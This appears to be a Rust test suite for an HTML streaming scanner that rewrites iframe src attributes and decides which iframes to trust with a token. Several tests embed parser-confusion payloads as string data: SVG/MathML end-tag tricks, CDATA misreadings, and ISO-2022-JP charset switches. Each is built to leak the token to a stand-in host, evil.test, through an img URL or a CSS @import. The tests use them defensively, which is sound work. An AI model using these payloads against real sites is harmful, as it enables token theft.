//! The scanner on hand-written pages: what it keeps across chunks and what
//! it hands on at once.

use encoding_rs::UTF_8;

use super::{AsciiCompatible, IframeTag, ScanSettings, ScanSink, Scanner};

/// Records each `bytes` call; sets `src` of every iframe to `new`.
struct Record {
    calls: Vec<Vec<u8>>,
    new: Option<&'static str>,
}

impl ScanSink for Record {
    fn bytes(&mut self, bytes: &[u8]) {
        self.calls.push(bytes.to_vec());
    }

    fn iframe(&mut self, tag: &mut IframeTag<'_, '_>) {
        if let Some(new) = self.new {
            tag.set_attribute("src", new);
        }
    }
}

fn scanner() -> Scanner {
    Scanner::new(ScanSettings {
        encoding: AsciiCompatible::new(UTF_8).unwrap(),
        adjust_charset: false,
        max_memory: 1 << 20,
        xml: false,
    })
}

/// The calls to `bytes` for `chunks`, each call as text, with `|` where a
/// chunk was written.
fn calls(chunks: &[&str], new: Option<&'static str>) -> Vec<String> {
    let mut scanner = scanner();
    let mut sink = Record {
        calls: Vec::new(),
        new,
    };
    let mut seen = Vec::new();
    for chunk in chunks {
        scanner.write(chunk.as_bytes(), &mut sink).unwrap();
        seen.extend(sink.calls.drain(..).map(|c| String::from_utf8(c).unwrap()));
        seen.push("|".to_string());
    }
    scanner.end(&mut sink).unwrap();
    seen.extend(sink.calls.drain(..).map(|c| String::from_utf8(c).unwrap()));
    seen
}

#[test]
fn text_and_other_tags_go_out_with_the_chunk_they_came_in() {
    assert_eq!(
        calls(
            &[
                "<p class=\"a",
                "b\">text <!-- a",
                "<iframe src=x> --> <di",
                "v>"
            ],
            None
        ),
        [
            "<p class=\"a",
            "|",
            "b\">text <!-- a",
            "|",
            "<iframe src=x> --> <di",
            "|",
            "v>",
            "|"
        ]
    );
}

#[test]
fn only_what_may_begin_a_captured_tag_is_held() {
    // `<` and `<ifr` might begin an iframe; `<div` and `</i` cannot.
    assert_eq!(
        calls(
            &["a<", "ifr", "ame src=x", ">b<div", " x>", "</i", "frame>"],
            Some("y")
        ),
        [
            "a",
            "|",
            "|",
            "|",
            "<iframe src=\"y\">",
            "b<div",
            "|",
            " x>",
            "|",
            "</i",
            "|",
            "frame>",
            "|"
        ]
    );
    // Held bytes that turn out to be no iframe go out as they were.
    assert_eq!(
        calls(&["<", "ifx>", "<me", "nu>", "<"], None),
        ["|", "<", "ifx>", "|", "|", "<me", "nu>", "|", "|", "<"]
    );
}

#[test]
fn an_unchanged_iframe_comes_out_byte_for_byte() {
    let tag = "<IFRAME\n\tSRC = 'http://x/y' data-src=z a=\"b\"c d/ >";
    assert_eq!(calls(&[tag], None), [tag, "|"]);
    // Changed, it is written as lol_html writes a modified tag.
    assert_eq!(
        calls(&[tag], Some("n\"ew")),
        ["<IFRAME SRC=\"n&quot;ew\" data-src=z a=\"b\" c d>", "|"]
    );
    assert_eq!(
        calls(&["<iframe src=a />"], Some("b")),
        ["<iframe src=\"b\" />", "|"]
    );
}

/// Notes, for each iframe, whether the scanner trusts it with a token.
struct Trust(Vec<bool>);

impl ScanSink for Trust {
    fn bytes(&mut self, _: &[u8]) {}

    fn iframe(&mut self, tag: &mut IframeTag<'_, '_>) {
        self.0.push(!tag.is_untrusted());
    }
}

/// Whether each iframe of `page` is trusted, the same whole and cut in two
/// at every byte.
fn trusted(page: &str, xml: bool) -> Vec<bool> {
    trusted_with(page, xml, false)
}

/// [`trusted`], with `<meta>` charsets followed when `adjust_charset`.
fn trusted_with(page: &str, xml: bool, adjust_charset: bool) -> Vec<bool> {
    let scan = |chunks: &[&[u8]]| {
        let mut scanner = Scanner::new(ScanSettings {
            encoding: AsciiCompatible::new(UTF_8).unwrap(),
            adjust_charset,
            max_memory: 1 << 20,
            xml,
        });
        let mut sink = Trust(Vec::new());
        for chunk in chunks {
            scanner.write(chunk, &mut sink).unwrap();
        }
        scanner.end(&mut sink).unwrap();
        sink.0
    };
    let whole = scan(&[page.as_bytes()]);
    for at in 1..page.len() {
        let (a, b) = page.as_bytes().split_at(at);
        assert_eq!(scan(&[a, b]), whole, "{page:?} cut at {at}");
    }
    whole
}

#[test]
fn no_token_after_markup_a_browser_may_read_otherwise() {
    let embed = "<iframe src=https://v.test/embed/a.html>";
    for (page, why) in [
        // §13.2.6.5: `</div>` closes the div the svg is in, so a browser
        // reads the `<![CDATA[` as a bogus comment and the iframe as part of
        // the img's URL; the svg may as well still be open (no div open).
        (
            format!("<div><svg></div><![CDATA[><img src='//evil.test/?]]>{embed}'>"),
            "an HTML end tag in SVG",
        ),
        (
            format!("<span><math><mrow></span><![CDATA[><img src='//evil.test/?]]>{embed}'>"),
            "an HTML end tag in MathML",
        ),
        (
            format!("<b><svg></b><style>@import url('//evil.test/?{embed}');</style>"),
            "an HTML end tag in SVG, then a style HTML reads as CSS",
        ),
        (
            format!(
                "<svg><foreignObject><div></foreignObject><![CDATA[><img src='//x/?]]>{embed}'>"
            ),
            "an integration point's end tag a special element may ignore",
        ),
        // Parsers before the select relaxation ignore an iframe in a select
        // (no raw text); newer ones do not.
        (
            format!("<select><iframe></select><img src='//evil.test/?</iframe>{embed}'>"),
            "a text element in a select",
        ),
        // `mglyph` and `malignmark` stay MathML at a MathML text
        // integration point, and so does an `svg` in them: its `desc` is no
        // integration point, and `<![CDATA[` opens a section there.
        (
            format!("<math><mi><mglyph><svg><desc><![CDATA[ a> <b title=']]><img src='//evil.test/? x> {embed} '>"),
            "an svg in an mglyph at a text integration point",
        ),
        (
            format!("<math><mtext><malignmark><svg><foreignObject><![CDATA[ a> <b title=']]><img src='//evil.test/? x> {embed} '>"),
            "an svg in a malignmark",
        ),
        (
            format!("<math><mo><mglyph><math><annotation-xml encoding=text/html></mo><![CDATA[ a> <b title=']]><img src='//evil.test/? x> {embed} '>"),
            "a math in an mglyph",
        ),
        (
            format!("<math><mtext><mglyph>{embed}"),
            "an iframe in an mglyph, MathML to a browser",
        ),
    ] {
        assert_eq!(trusted(&page, false).last(), Some(&false), "{why}: {page}");
    }
}

#[test]
fn well_formed_svg_math_and_select_keep_the_tokens_after_them() {
    let embed = "<iframe src=https://v.test/embed/a.html>";
    for page in [
        format!("<div><svg><g><path d=M0></path></g><style>p{{}}</style><title>t</title></svg></div>{embed}"),
        format!("<svg><filter><feComponentTransfer></feComponentTransfer></filter></svg><script>x</script>{embed}"),
        format!("<svg><foreignObject>text</foreignObject><![CDATA[ x ]]></svg>{embed}"),
        format!("<svg><foreignObject><div>Label<br></div></foreignObject><style>a</style></svg>{embed}"),
        format!("<svg><desc><b>bold</b></desc><g><title>t</title></g><script>x</script></svg>{embed}"),
        format!("<math><mrow><mi>x</mi></mrow></math><textarea>a</textarea>{embed}"),
        format!("<math><mi><mglyph src=a.png alt=a/></mi></math><style>a</style>{embed}"),
        format!("<math><mi><mglyph src=a.png alt=a></mi><mo>+</mo></math><style>a</style>{embed}"),
        format!("<svg><g><g></g></g><style>a</style></svg>{embed}"),
        format!("<select><option>a</option><script>b</script></select><style>c</style>{embed}"),
        // An unsure stretch that comes back to HTML before anything is read two ways.
        format!("<div><svg></div><p>{embed}<style>x</style>{embed}"),
    ] {
        assert!(trusted(&page, false).iter().all(|&t| t), "{page}");
    }
}

#[test]
fn xhtml_reads_cdata_as_a_section_everywhere() {
    // An XML parser reads the style's CDATA as CSS text: the iframe in it is
    // no tag, and a token minted there would be fetched by the @import.
    let page = "<style>/*<![CDATA[>*/@import url('//evil.test/?<iframe src=\"https://v.test/embed/a.html\"/>');/*]]>*/</style><iframe src=https://v.test/embed/b.html>";
    assert_eq!(
        trusted(page, true),
        [true],
        "only the iframe after the CDATA"
    );
    assert_eq!(trusted(page, false).len(), 1, "HTML: raw text, as before");
}

#[test]
fn no_token_after_a_meta_naming_an_encoding_that_is_not_ascii_compatible() {
    // In ISO-2022-JP, ESC $ B starts two-byte characters: the quote after
    // it is half of one, and the iframe sits in the img's URL.
    let attack = "<img src='//evil.test/?\x1b$B'\x1b(B><iframe src=https://v.test/embed/a.html>'>";
    for meta in [
        "<meta charset=\"iso-2022-jp\">",
        // Read as browsers read `content`, not as a media type must be written.
        "<meta http-equiv=content-type content=\"text/html;charset=iso-2022-jp; x\">",
        "<meta charset=iso-2022-kr>",
        // Read as a browser may: the last of several, references decoded, in
        // a noscript (raw text to the scanner), or anywhere in the first
        // 1024 bytes, which decide the whole page's encoding.
        "<meta charset=utf-8 charset=iso-2022-jp>",
        "<meta charset=&#105;so-2022-jp>",
        "<meta http-equiv=content-type content=\"text/html; charset=&#x69;so-2022-jp\">",
        "<noscript><meta charset=iso-2022-jp></noscript>",
    ] {
        let page = format!("{meta}{attack}");
        assert_eq!(trusted_with(&page, false, true), [false], "{meta}");
        let after = format!("{attack}<script><meta charset=iso-2022-jp></script>");
        assert_eq!(trusted_with(&after, false, true), [false], "{meta} after");
    }
    // The first 1024 bytes decide, past the iframe too, whichever chunk
    // brings them in.
    let long = format!(
        "{attack}<script><meta charset=iso-2022-jp></script>{}",
        "<p>filler</p>".repeat(100)
    );
    assert_eq!(trusted_with(&long, false, true), [false], "a longer page");
    // Chromium reads a meta in the head past the first 1024 bytes too, in a
    // noscript as well; no iframe can come before it there.
    let head = format!(
        "<head><title>{}</title><noscript><meta charset=\"iso-2022-jp\"></noscript></head>{attack}",
        "x".repeat(1100)
    );
    assert_eq!(
        trusted_with(&head, false, true),
        [false],
        "late in the head"
    );
    // Past the first iframe a meta the scanner does not see as one changes nothing.
    let late = format!(
        "{}<iframe src=https://v.test/embed/a.html><noscript><meta charset=iso-2022-jp></noscript>",
        "<p>filler</p>".repeat(100)
    );
    assert_eq!(trusted_with(&late, false, true), [true]);
    // UTF-16 in a meta is read as UTF-8, whose markup is ASCII.
    let page = "<meta charset=utf-16le><iframe src=https://v.test/embed/a.html>";
    assert_eq!(trusted_with(page, false, true), [true]);
}

#[test]
fn an_iframe_in_svg_or_mathml_gets_no_token() {
    // Inert where it stands; and a preload scanner, which knows no foreign
    // content, reads the CDATA section as a bogus comment and fetches the
    // img, URL and token.
    let embed = "<iframe src=https://v.test/embed/a.html>";
    for page in [
        format!("<svg><![CDATA[><img src='//evil.test/?]]>{embed}'>"),
        format!("<math><![CDATA[><img src='//evil.test/?]]>{embed}'>"),
        format!("<svg><foreignObject></foreignObject>{embed}</svg>"),
    ] {
        assert_eq!(trusted(&page, false), [false], "{page}");
    }
    // At an integration point it is an HTML iframe, and loads.
    let page = format!("<svg><foreignObject>{embed}</foreignObject></svg>");
    assert_eq!(trusted(&page, false), [true]);
}
